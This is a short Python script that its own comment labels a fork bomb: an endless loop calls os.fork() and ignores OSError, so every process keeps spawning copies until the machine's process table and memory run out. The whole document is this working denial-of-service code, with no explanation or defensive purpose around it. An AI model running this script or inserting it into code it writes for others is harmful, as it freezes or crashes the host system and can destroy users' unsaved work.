# Fork bomb: every process forks forever and shrugs off failures.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
